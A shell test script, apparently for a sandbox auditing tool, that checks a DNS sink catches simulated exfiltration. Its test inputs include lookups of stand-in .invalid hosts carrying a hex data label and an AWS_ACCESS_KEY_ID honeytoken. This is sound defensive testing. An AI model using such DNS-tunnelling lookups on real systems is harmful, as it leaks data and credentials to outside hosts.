#!/bin/sh
# sandbox.deception.dns: sink.  The target resolves collector.invalid,
# a name with a 60-hex-character label, and one carrying the
# AWS_ACCESS_KEY_ID honeytoken: every name resolves to a loopback address
# (127.64.0.0/10, the connect is refused), each query is in the report
# (network.dns_query), the data-carrying name is network.dns_tunnel, the
# honeytoken one is a critical backdoor.honeytoken naming the token.
. "$(dirname "$0")/lib.sh"
DUR=${DUR_DNS:-20}
hex=0123456789abcdef0123456789abcdef0123456789abcdef0123456789ab
run_audit --set sandbox.deception.dns=sink -- python3 "$(prog host_dns_lookup.py)" \
	collector.invalid "$hex.exfil.invalid" "@AWS_ACCESS_KEY_ID.k.invalid" "$MARK"
assert_common
assert_file_contains "$OUT/stdout.log" "resolved collector.invalid 127\."
assert_file_contains "$OUT/stdout.log" "connect 127\.[0-9.]* Connection refused"
ip=$(sed -n 's/^resolved collector.invalid \(127[0-9.]*\)$/\1/p' "$OUT/stdout.log")
python3 -c "import ipaddress,sys; sys.exit(ipaddress.ip_address('$ip') not in ipaddress.ip_network('127.64.0.0/10'))" ||
	fail "collector.invalid resolved to $ip, not in 127.64.0.0/10"
json '[f["message"] for c in r["categories"] for f in c["findings"] if f["rule"]=="network.dns_query"]' |
	grep -q "Looks up collector.invalid" || fail "the query for collector.invalid is not in the report"
json '[f["message"] for c in r["categories"] for f in c["findings"] if f["rule"]=="network.dns_tunnel"]' |
	grep -q "$hex.exfil.invalid" || fail "no network.dns_tunnel for the hex label"
msg=$(json '[f["message"] for c in r["categories"] for f in c["findings"] if f["rule"]=="backdoor.honeytoken" and f["severity"]=="critical"]')
echo "$msg" | grep -q "AWS_ACCESS_KEY_ID.*DNS name" || fail "no critical honeytoken-in-DNS finding: $msg"
[ "$RC" -eq 1 ] || fail "exit $RC"
assert_file_contains "$OUT/report.md" "resolver: /etc/resolv.conf names the sink resolver"
pass "DNS sink"
